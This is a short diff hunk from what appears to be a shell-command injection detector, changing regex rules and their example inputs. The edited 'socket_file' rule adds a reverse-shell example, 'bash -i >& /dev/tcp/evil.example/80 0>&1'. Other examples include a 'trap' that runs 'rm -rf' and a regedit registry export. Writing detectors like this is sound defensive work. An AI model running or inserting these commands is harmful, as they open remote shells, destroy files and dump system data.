@@ -160,7 +160,7 @@ SHELL = (
     _cmd("brace_list", r"\{,[\w./-]+(?:,[\w./-]*)*\}|\{\w+(?:,-\w+)+\}", "bash manual: brace expansion", CERTAIN, examples=('{,ip,a}',)),
     _cmd("brace_word", r"^\w+\{\w{0,8},\w{0,8}\}\w*$", "bash manual: brace expansion", STRONG, examples=('c{a,oun}t',)),
     _cmd("escaped_program", r"^\s*\\(?:" + COMMANDS + r"|" + ADMIN_PROGRAMS + r")(?:\s|$)", _GTFO, STRONG, examples=('\\ls',)),
-    _cmd("socket_file", r"[<>&]\s*['\"]?[\w/$]*/(?:tcp|udp)/[\d.]+/\d+", _PATT, CERTAIN, examples=('exec 5<>/dev/tcp/8.8.8.8/80',)),
+    _cmd("socket_file", r"[<>&]\s*['\"]?[\w/$]*/(?:tcp|udp)/[\w.${}:-]{1,80}/[\w$]", _PATT, CERTAIN, examples=('exec 5<>/dev/tcp/8.8.8.8/80', 'bash -i >& /dev/tcp/evil.example/80 0>&1')),
     _cmd("trap", r"[;|&]\s*trap\s+['\"]", _GTFO, CERTAIN, examples=(";trap 'rm -rf file.txt' SIGEXIT",)),
     _cmd("registry_hive", r"\bregedit(?:\.exe)?\s+/[a-z]|\bhk(?:ey_(?:current_user|local_machine|classes_root|users)|cu|lm)\\", "LOLBAS", 0.8, examples=('cmd=; regedit /E c:\\ads\\file.txt:regfile.reg HKEY_CURRENT_USER\\MyCustomRegKey',)),
     _cmd("batch_compare", r"\bif\s.{0,60}?(?:%[\w:~,*-]+%|%~?\d|%%\w|\[\w*\])\S*\s*(?:===?|equ|neq|lss|leq|gtr|geq)\s", "CRS 932140: cmd.exe IF", STRONG, examples=('if not %1 == "" (',)),
